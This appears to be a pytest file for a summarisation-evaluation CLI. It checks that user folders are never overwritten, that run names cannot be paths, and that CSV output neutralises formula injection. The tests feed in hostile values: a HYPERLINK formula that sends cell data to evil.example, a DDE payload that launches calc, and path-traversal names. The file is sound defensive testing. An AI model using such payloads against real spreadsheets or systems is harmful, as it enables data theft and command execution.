"""Reliability and security of what a run reads and writes, through the CLI where users meet it (issue 20,
the local half): run folders that are not sumtrack's are never replaced, CSV cells are never live formulas,
control characters are shown escaped, limits are checked by `validate`, corrupt stores and caches are one
line, Unicode ids match in NFC. Each case checks its one line and that nothing else was lost."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
import yaml

from eval.output.folder import MARKER
from tests.conftest import ARTICLE, NEAR_COPY
from tests.test_adversarial import cli, errors


def make_config(write, **extra) -> Path:
    write("src.txt", ARTICLE)
    write("near.txt", NEAR_COPY)
    data = {
        "name": "safe",
        "corpus": {"clusters": [{"id": "c", "source": "src.txt", "derivatives": ["near.txt"]}]},
        "systems": [{"name": "lead-2", "type": "lead", "sentences": 2}],
        "aggregate": {"bootstrap": 0},
        **extra,
    }
    return write("cfg.yaml", yaml.safe_dump(data, allow_unicode=True))


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# -- run folders: only sumtrack's own are replaced ---------------------------------------------------------


def users_folder(tmp_path: Path, *, with_run: bool = False) -> Path:
    folder = tmp_path / "paper"
    (folder / "figs").mkdir(parents=True)
    (folder / "notes.txt").write_text("my notes\n")
    (folder / "paper.tex").write_bytes(b"\\documentclass{article}\n")
    (folder / "figs" / "a.png").write_bytes(bytes(range(256)))
    if with_run:  # an earlier run's files beside the user's own
        (folder / "results.json").write_text("{}")
        (folder / "config.resolved.yaml").write_text("name: x\n")
    return folder


@pytest.mark.parametrize("with_run", [False, True])
def test_out_at_a_folder_of_the_users_files_is_refused_before_any_work(
    write, tmp_path, capsys, with_run
) -> None:
    cfg = make_config(write)
    folder = users_folder(tmp_path, with_run=with_run)
    before = snapshot(folder)
    code, out, err = cli(capsys, "run", str(cfg), "--out", str(folder))
    assert code == 2
    (line,) = errors(err)
    assert line == (
        f"sumtrack: error: {folder} holds files sumtrack did not write (figs, notes.txt, paper.tex); "
        "choose another --out or output.dir; nothing was run"
    )
    assert snapshot(folder) == before
    assert "ROUGE" not in out  # nothing was computed
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["paper", "src.txt", "near.txt", "cfg.yaml"])


def test_a_run_folder_is_marked_and_replaced_by_the_next_run(write, tmp_path, capsys) -> None:
    cfg = make_config(write)
    out = tmp_path / "run"
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    marker = json.loads((out / MARKER).read_text())
    assert sorted(marker["files"]) == sorted(p.name for p in out.iterdir() if p.name != MARKER)
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    # A file the user puts in the run folder afterwards makes it theirs: never deleted.
    (out / "my-analysis.ipynb").write_text("{}")
    before = snapshot(out)
    code, _, err = cli(capsys, "run", str(cfg), "--out", str(out))
    assert code == 2 and "holds files sumtrack did not write (my-analysis.ipynb)" in errors(err)[0]
    assert snapshot(out) == before


def test_a_run_folder_of_the_previous_version_is_still_replaced(write, tmp_path, capsys) -> None:
    cfg = make_config(write)
    out = tmp_path / "run"
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    (out / MARKER).unlink()  # as the version before the marker wrote it
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    assert (out / MARKER).is_file() and (out / "scores.csv").is_file()


def test_an_empty_folder_is_used(write, tmp_path, capsys) -> None:
    cfg = make_config(write)
    out = tmp_path / "empty"
    out.mkdir()
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    assert (out / "results.json").is_file()


def test_files_added_while_the_run_goes_are_not_deleted(write, tmp_path, capsys, monkeypatch) -> None:
    from eval.output import folder as folder_mod

    cfg = make_config(write)
    out = tmp_path / "run"
    assert cli(capsys, "run", str(cfg), "--out", str(out))[0] == 0
    commit = folder_mod.RunFolder.commit

    def late(self, result):
        (out / "notes.txt").write_text("written during the run")
        return commit(self, result)

    monkeypatch.setattr(folder_mod.RunFolder, "commit", late)
    code, out_text, err = cli(capsys, "run", str(cfg), "--out", str(out))
    assert code == 1
    (line,) = errors(err)
    assert "holds files sumtrack did not write (notes.txt)" in line
    assert (out / "notes.txt").read_text() == "written during the run"
    assert "signature:" in out_text  # the numbers are still printed
    assert not [p for p in tmp_path.iterdir() if ".run.new-" in p.name]


@pytest.mark.parametrize("name", ["../../x", "/tmp/abs", "a/b", "a\\b", "..", ".", "x\0y"])
def test_name_is_a_name_not_a_path(write, tmp_path, capsys, name) -> None:
    cfg = make_config(write, name=name)
    for command in ("validate", "run"):
        code, _, err = cli(capsys, command, str(cfg))
        assert code == 2
        (line,) = errors(err)
        assert line.startswith("sumtrack: error: name: a name, not a path")
    assert not (tmp_path / "runs").exists() and not (tmp_path.parent / "runs").exists()


def test_a_nul_in_output_dir_is_one_line(write, tmp_path, capsys) -> None:
    cfg = make_config(write, output={"dir": "out\0x"})
    code, _, err = cli(capsys, "validate", str(cfg))
    assert code == 2
    (line,) = errors(err)
    assert "output.dir: a NUL character cannot be in a path" in line


def read_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


# -- CSV cells are never live formulas ---------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def live_formulas(path: Path) -> list[str]:
    return [c for row in read_cells(path) for c in row if c.startswith(FORMULA_START) and not is_number(c)]


def test_formula_like_ids_and_names_are_neutralised_in_every_csv(write, tmp_path, capsys) -> None:
    write("src.txt", ARTICLE)
    write("near.txt", NEAR_COPY)
    # Its sentences in reverse order: a negative order (Kendall's tau) in rows.csv.
    write("rev.txt", "\n".join(reversed(ARTICLE.replace(". ", ".\n").splitlines())))
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    data = {
        "name": "csv",
        "corpus": {
            "clusters": [
                {
                    "id": hostile,
                    "source": "src.txt",
                    "derivatives": [{"path": "near.txt", "id": "@SUM(1+1)*cmd|' /C calc'!A0"}],
                },
                {"id": "+cmd", "source": "src.txt", "derivatives": [{"path": "rev.txt", "id": "\tTAB"}]},
            ]
        },
        "systems": [
            {"name": "=1+1", "type": "lead", "sentences": 2},
            {"name": "-2+3", "type": "lead", "sentences": 1},
        ],
        "aggregate": {"bootstrap": 50},
    }
    cfg = write("cfg.yaml", yaml.safe_dump(data, allow_unicode=True))
    out = tmp_path / "out"
    code, _, err = cli(capsys, "run", str(cfg), "--out", str(out))
    assert code == 0, err
    for name in ("scores.csv", "aggregates.csv", "rows.csv"):
        assert live_formulas(out / name) == [], name
    cells = {c for row in read_cells(out / "scores.csv") for c in row}
    assert {"'" + hostile, "'=1+1", "'-2+3", "'+cmd", "'\tTAB", "'@SUM(1+1)*cmd|' /C calc'!A0"} <= cells
    # Numbers, negative ones included, are written as they are.
    values = [c for row in read_cells(out / "rows.csv")[2:] for c in row[-1:]]
    negative = [v for v in values if v.startswith("-")]
    assert negative and all(is_number(v) for v in negative)
    # JSON keeps the ids exactly: only the spreadsheet files are neutralised.
    results = json.loads((out / "results.json").read_text())
    assert {s["name"] for s in results["systems"]} == {"=1+1", "-2+3"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", '"\'\rx"'),
        ("-0.25", "-0.25"),
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_cells_are_neutralised_per_owasp(value, cell) -> None:
    from eval.output.csv_files import _field

    assert _field(value) == cell
    assert _field(-0.5) == "-0.500000"
